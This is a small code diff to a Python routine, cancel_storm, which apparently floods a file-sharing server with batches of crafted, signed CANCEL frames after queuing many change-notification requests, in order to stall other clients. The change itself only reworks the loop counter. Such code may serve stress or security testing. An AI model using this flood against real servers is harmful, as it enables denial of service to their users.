@@ -187,13 +187,15 @@ def cancel_storm(scene, say):
                 break
             one = link.send(raw.CHANGE_NOTIFY, raw.notify_body(folder))
             waiting.append(one)
-        for round_ in range(200):
+        frames = 0
+        while frames < 200:
+            frames += 1
             header = link.header(raw.CANCEL, 0, 0, 1 << 40, link.tree_id, link.session_id)
             one = link.sign(header[:20] + struct.pack("<I", 72) + header[24:] + struct.pack("<HHI", 4, 0, 0))
             last = link.sign(header + struct.pack("<HH", 4, 0))
             if quietly(link.send_frame, one * 119 + last) is None and link.ends(0.01):
                 break
-        say(f"{len(waiting)} waiting, {round_ + 1} frames of CANCELs")
+        say(f"{len(waiting)} waiting, {frames} frames of CANCELs")
         siege.others_wait(say, STALL)
 
 
